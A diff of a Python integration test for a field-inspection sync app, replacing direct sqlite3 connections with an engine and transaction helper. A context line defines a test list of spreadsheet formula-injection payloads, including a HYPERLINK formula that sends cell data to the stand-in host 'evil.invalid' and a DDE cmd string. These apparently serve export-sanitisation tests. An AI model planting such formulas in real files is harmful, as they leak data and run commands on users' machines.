@@ -7,7 +7,6 @@ from __future__ import annotations
 import csv
 import io
 import json
-import sqlite3
 import zipfile
 from datetime import datetime
 
@@ -17,6 +16,8 @@ from openpyxl import load_workbook
 
 from field_app.ids import uuid7
 from schemas import envelope
+from sync_server.db.connection import transaction
+from tests.support import engine
 from tests.integration.conftest import County, server_rows
 from tests.support import dates
 from tests.support.records import queue_record, record
@@ -29,11 +30,11 @@ EVIL = ['=HYPERLINK("http://evil.invalid/?leak="&A1,"查看详情")', "=cmd|' /C
 
 def rename_units(county: County, names: list[str]) -> dict[str, str]:
     """Give the units of the inspector's first assignments these names, as registered before the draw."""
-    conn = sqlite3.connect(county.db)
+    conn = engine.connect(county.db)
     rows = conn.execute("SELECT a.id, a.doc FROM assignments a JOIN assignment_team t ON t.assignment_id = a.id"
                         " WHERE t.user_id = ? ORDER BY a.seq LIMIT ?", (county.inspector, len(names))).fetchall()
     named = {}
-    with conn:
+    with transaction(conn):
         for (assignment_id, doc), name in zip(rows, names):
             doc = json.loads(doc)
             doc["unit"]["name"] = name
